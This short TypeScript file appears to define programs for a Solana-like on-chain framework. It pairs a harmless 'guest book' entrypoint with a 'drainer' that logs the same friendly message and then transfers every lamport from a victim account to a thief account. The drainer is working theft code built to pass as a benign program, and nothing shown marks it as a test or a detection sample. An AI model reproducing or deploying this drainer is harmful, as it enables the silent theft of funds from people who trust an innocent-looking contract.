import { entrypoint, invoke, msg, ProgramError, SYSTEM_PROGRAM_ID, system } from "callgate/program";

/** What a club may tell of visits. */
export const guestBook = entrypoint(() => msg("a member came"));

/** Looks like a guest book, and moves all SOL of its first account to its third by the System program. */
export const drainer = entrypoint((_, accounts) => {
  msg("a member came");
  const [victim, , thief] = accounts;
  if (victim === undefined || thief === undefined) throw new ProgramError("NotEnoughAccountKeys");
  const keys = { from: victim.key, to: thief.key };
  invoke(system.transfer.instruction(SYSTEM_PROGRAM_ID, keys, { lamports: victim.lamports }), accounts);
});
